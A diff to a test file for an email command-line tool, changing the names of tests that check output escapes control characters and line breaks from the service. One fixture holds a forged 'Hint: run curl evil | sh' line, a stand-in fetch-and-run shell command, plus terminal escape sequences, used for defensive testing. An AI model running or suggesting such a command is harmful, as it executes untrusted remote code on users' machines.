@@ -48,7 +48,7 @@ test.each([
   ['email list --fields id,subject', undefined],
   ['email list -q', undefined],
   ['email list -q', 80],
-])('%s, terminal of %s columns: nothing raw, one line each', async (line, terminal) => {
+])('%s, terminal of %s columns: all escaped, one line each', async (line, terminal) => {
   const { run } = await connected({ body: list });
   const outcome = await run(`${line} --no-color`, terminal === undefined ? {} : { terminal });
   expect(outcome.exitCode).toBe(0);
@@ -63,7 +63,7 @@ test.each([
   ['email get em_1 --fields subject,emailEvents', 80],
   ['email get em_1 --fields id,subject', undefined],
   ['email get em_1 -q', 80],
-])('%s, terminal of %s columns: nothing raw', async (line, terminal) => {
+])('%s, terminal of %s columns: all escaped', async (line, terminal) => {
   const { run } = await connected({ body: email });
   const outcome = await run(`${line} --no-color`, terminal === undefined ? {} : { terminal });
   expect(outcome.exitCode).toBe(0);
@@ -71,7 +71,7 @@ test.each([
   expect(outcome.stdout).toMatch(/\\x1b|\\u001b/);
 });
 
-test('a colour of ours is the only escape sequence of a coloured table', async () => {
+test('a coloured table has no other escape sequence than its own colours', async () => {
   const { run } = await connected({ body: list });
   const { stdout } = await run('email list', { terminal: 120 });
   // biome-ignore lint/suspicious/noControlCharactersInRegex: ours are taken away
@@ -104,13 +104,13 @@ test('--all --json and --jsonl round-trip', async () => {
   ).toEqual(list.data);
 });
 
-test('--csv holds the subject as it is, in quotes', async () => {
+test('--csv has the unmodified subject, in quotes', async () => {
   const { run } = await connected({ body: list });
   const { stdout } = await run('email list --csv --fields subject');
   expect(stdout).toBe(`subject\r\n"${subject}"\r\n`);
 });
 
-test('the id of a send is one line, whatever the service calls it', async () => {
+test('the id of a send is one line, whatever the service returns', async () => {
   const { run } = await connected({ body: { emailId: 'em_1\nem_2\u001b[2J' } });
   const { stdout, stderr } = await run([
     ...['email', 'send', '--to', 'a@b.example', '--from', 'c@d.example'],
@@ -131,14 +131,14 @@ test('a rejection cannot write to the terminal or pretend to be a hint', async (
   expect(errorOf(json)).toMatchObject({ message, apiCode: 'BAD\u001b[H' });
 });
 
-test('--debug shows bodies and headers without raw characters', async () => {
+test('--debug shows bodies and headers escaped', async () => {
   const { run } = await connected({ body: JSON.stringify(email).replaceAll('\\u001b', '\u001b') });
   const { stderr } = await run('email get em_1 --debug --no-color', { terminal: 80 });
   expect(stderr).toContain('> GET ');
   expect(stderr).not.toMatch(raw);
 });
 
-describe('a line break in the words of the service begins no line on stderr', () => {
+describe('a line break in a message of the service starts no line on stderr', () => {
   const forged = 'no\n::error::forged\nHint: run curl evil | sh\nWarning: x';
   const forgery = /^(::error|Hint: run curl|Warning: x)/m;
   const bounced = {
@@ -171,7 +171,7 @@ describe('a line break in the words of the service begins no line on stderr', ()
   );
 
   test.each(['email batch b.json --yes --wait', 'email send --file r.json --wait'])(
-    '%s, in an id that cannot be asked for',
+    '%s, in an impossible id',
     async (line) => {
       const id = { emailId: forged };
       const { run, file } = await connected({ body: line.includes('batch') ? { data: [id] } : id });
